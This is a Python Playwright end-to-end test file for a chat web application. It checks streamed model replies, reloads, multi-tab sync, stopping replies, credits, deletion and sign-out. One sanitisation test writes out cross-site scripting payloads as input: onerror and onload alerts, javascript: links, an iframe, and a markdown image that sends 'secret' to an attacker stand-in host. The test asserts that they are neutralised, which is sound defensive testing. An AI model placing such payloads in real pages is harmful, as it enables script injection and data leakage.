"""The page in a real browser, as a person sees it while a worker writes a reply."""

import re

from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.e2e.conftest import on_one_database
from tests.e2e.person import Person
from tests.eventually import eventually, patience
from tests.fake_model import FakeModel
from tests.services.programs import Programs
from tests.the_page import newest_reply, sign_in, write

pytestmark = on_one_database


def test_a_person_sees_the_reply_being_written_and_reloads_in_the_middle(
    page: Page, person: Person, fake_model: FakeModel
) -> None:
    sign_in(page, person)
    page.locator("[data-test=new-chat]").click()

    # The placeholder shows while the model has said nothing
    write(page, "What is **bold**? fake:chunks=6,first=1500,gate=middle")
    expect(newest_reply(page)).to_have_attribute("data-status", re.compile("pending|running"))
    expect(newest_reply(page).locator("[data-test=content]")).to_have_text("")
    expect(page.locator("[data-test=credits]")).to_have_text("297")

    # Then text appears before the reply ends
    content = newest_reply(page).locator("[data-test=content]")
    expect(content).not_to_have_text("")
    expect(newest_reply(page)).to_have_attribute("data-status", "running")
    first_piece = content.inner_text()

    # A reload in the middle shows the text so far
    page.reload()
    expect(content).to_contain_text(first_piece)
    expect(newest_reply(page)).to_have_attribute("data-status", "running")

    # And the text goes on, with nothing lost or doubled
    expect(page.locator("body")).to_have_attribute("data-socket", "online")
    fake_model.open_gate("middle")
    expect(newest_reply(page)).to_have_attribute("data-status", "completed")
    stored = person.get("/chats")["items"][0]
    whole = person.get(f"/chats/{stored['id']}/messages?order=desc&limit=1")["items"][0]["content"]
    assert " ".join(content.inner_text().split()) == " ".join(whole.split())


def test_every_open_tab_sees_it(page: Page, person: Person, programs: Programs) -> None:
    sign_in(page, person)
    other = page.context.new_page()
    other.goto("/")  # the tabs share the browser's session, so there is no second sign-in
    expect(other.locator("body")).to_have_attribute("data-socket", "online")

    page.locator("[data-test=new-chat]").click()
    write(page, "Hello to all tabs")
    expect(newest_reply(page)).to_have_attribute("data-status", "completed")

    other.locator("[data-test=chat-list] li").first.locator("a").click()
    expect(newest_reply(other)).to_have_attribute("data-status", "completed")
    write(other, "And back")
    expect(page.locator("[data-message-type=user]").last).to_contain_text("And back")
    expect(newest_reply(page)).to_contain_text("And back")


def test_a_chat_beyond_the_first_page_appears_when_it_becomes_active_elsewhere(page: Page, person: Person) -> None:
    far = person.post("/chats", title="Long ago")["id"]
    for _ in range(50):
        person.post("/chats")
    sign_in(page, person)
    listed = page.locator("[data-test=chat-list] li")
    expect(listed).to_have_count(50)
    person.post(f"/chats/{far}/messages", content="Hello again")
    expect(listed.first).to_contain_text("Long ago")


def test_a_failed_reply_says_so(page: Page, person: Person, fake_model: FakeModel) -> None:
    sign_in(page, person)
    page.locator("[data-test=new-chat]").click()
    write(page, "Hello fake:status=401")

    expect(newest_reply(page)).to_have_attribute("data-status", "failed")
    expect(newest_reply(page)).to_contain_text("Your credits were returned")
    expect(page.locator("[data-test=credits]")).to_have_text("300")


def test_a_person_stops_a_reply_and_goes_on_with_what_waits(page: Page, person: Person, fake_model: FakeModel) -> None:
    sign_in(page, person)
    page.locator("[data-test=new-chat]").click()
    write(page, "Tell me a long story fake:chunks=5000,every=50")
    reply = newest_reply(page)
    expect(reply.locator("[data-test=content]")).to_contain_text("word3")
    write(page, "And a short one")
    waiting = newest_reply(page)
    expect(waiting).to_have_attribute("data-status", "pending")
    expect(page.locator("[data-test=paused]")).to_be_hidden()

    # After a stop the text stays and is paid for, the model is let go, and the next question waits
    stopped = page.locator("[data-message-id]:not([data-message-type=user])").first
    stopped.get_by_role("button", name="Stop").click()
    expect(stopped).to_have_attribute("data-status", "cancelled")
    expect(stopped).to_contain_text("Stopped.")
    expect(stopped.locator("[data-test=content]")).to_contain_text("word3")
    eventually(lambda: fake_model.asked("Tell me a long story")[0].ending == "client closed", within=2)
    expect(page.locator("[data-test=paused]")).to_be_visible()
    expect(waiting).to_contain_text("Waiting")

    # The next question waits until the person goes on
    page.get_by_role("button", name="Go on").click()
    expect(waiting).to_have_attribute("data-status", "completed")
    expect(page.locator("[data-test=paused]")).to_be_hidden()
    expect(page.locator("[data-test=credits]")).to_have_text("294")


def test_a_new_message_goes_on_too_and_a_stop_before_any_text_costs_nothing(page: Page, person: Person) -> None:
    sign_in(page, person)
    page.locator("[data-test=new-chat]").click()
    write(page, "Hello fake:hang")
    write(page, "And you?")
    replies = page.locator("[data-message-id]:not([data-message-type=user])")
    expect(replies).to_have_count(2)
    replies.first.get_by_role("button", name="Stop").click()
    expect(replies.first).to_contain_text("Your credits were returned")
    expect(page.locator("[data-test=paused]")).to_be_visible()
    write(page, "Anybody?")
    expect(page.locator("[data-test=paused]")).to_be_hidden()
    expect(replies.last).to_have_attribute("data-status", "completed")


def test_a_message_is_deleted_with_its_reply(page: Page, person: Person) -> None:
    sign_in(page, person)
    page.locator("[data-test=new-chat]").click()
    write(page, "Keep this")
    expect(newest_reply(page)).to_have_attribute("data-status", "completed")
    write(page, "Delete this")
    expect(newest_reply(page)).to_contain_text("Delete this")
    expect(newest_reply(page)).to_have_attribute("data-status", "completed")
    mine = page.locator("[data-message-type=user]").last
    mine.hover()
    mine.get_by_role("button", name="Delete:").click()
    page.locator("dialog").get_by_role("button", name="Delete").click()
    expect(page.locator("[data-message-id]")).to_have_count(2)
    page.reload()
    expect(page.locator("[data-message-id]")).to_have_count(2)
    expect(page.locator(".messages")).not_to_contain_text("Delete this")


def test_what_a_model_says_can_run_nothing_and_load_nothing(page: Page, person: Person, programs: Programs) -> None:
    elsewhere = watch_for_requests_elsewhere(page.context, programs)
    page.on("dialog", lambda dialog: elsewhere.append(dialog.message))
    sign_in(page, person)
    page.locator("[data-test=new-chat]").click()

    # the fake model quotes the question, so the answer has this text
    write(
        page,
        "<img src=x onerror=alert(1)> ![data](http://evil.example/?q=secret) [link](javascript:alert(2)) "
        "<svg onload=alert(3)></svg> <iframe src=http://evil.example></iframe> <a href='http://fine.example'>a</a>",
    )
    expect(newest_reply(page)).to_have_attribute("data-status", "completed")

    content = newest_reply(page).locator("[data-test=content]")
    expect(content).to_contain_text("here it ends")
    assert content.locator("img, svg, iframe, script, style, form, object, embed").count() == 0
    assert content.locator("a[href^='javascript']").count() == 0
    assert elsewhere == []


def watch_for_requests_elsewhere(context: BrowserContext, programs: Programs) -> list[str]:
    """Every address that the page asks for outside of the programs."""
    elsewhere: list[str] = []
    ours = (programs.url, programs.realtime_url.replace("http", "ws", 1), programs.realtime_url)
    context.on("request", lambda request: None if request.url.startswith(ours) else elsewhere.append(request.url))
    return elsewhere


def test_signing_out_in_one_tab_signs_out_every_tab_of_the_browser_and_no_other_device(
    page: Page, person: Person, browser: Browser, programs: Programs
) -> None:
    sign_in(page, person)
    other = page.context.new_page()
    other.goto("/")
    expect(other.locator("body")).to_have_attribute("data-socket", "online")
    with browser.new_context(base_url=programs.url) as context:
        elsewhere = context.new_page()
        sign_in(elsewhere, person)

        page.locator("[data-action=sign-out]").click()

        expect(page.locator("form[data-test=sign-in]")).to_be_visible()
        expect(other.locator("form[data-test=sign-in]")).to_be_visible(timeout=patience(10_000))
        elsewhere.locator("[data-test=new-chat]").click()
        write(elsewhere, "Still here")
        expect(newest_reply(elsewhere)).to_have_attribute("data-status", "completed")
        expect(elsewhere.locator("body")).to_have_attribute("data-socket", "online")
